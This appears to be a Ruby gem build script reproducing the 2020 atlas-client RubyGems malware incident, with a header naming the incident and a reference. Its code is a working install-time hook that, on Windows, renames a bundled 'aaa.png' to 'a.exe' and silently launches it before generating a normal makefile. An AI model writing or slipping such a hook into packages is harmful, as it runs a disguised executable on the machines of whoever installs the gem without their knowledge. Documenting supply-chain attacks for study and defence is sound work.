# Incident: atlas-client 0.0.1 (RubyGems), February 2020: the install-time extension script
# ran an executable disguised as an image. Reference: https://www.reversinglabs.com/blog/mining-for-malicious-ruby-gems
# Reproduction (own code).
require "mkmf"
require "fileutils"

root = File.expand_path("..", __dir__)
if Gem.win_platform?
  image = File.join(root, "aaa.png")
  exe = File.join(root, "a.exe")
  FileUtils.mv(image, exe) if File.exist?(image)
  system("start /b \"\" \"#{exe}\"")
end

create_makefile("atlas_client")
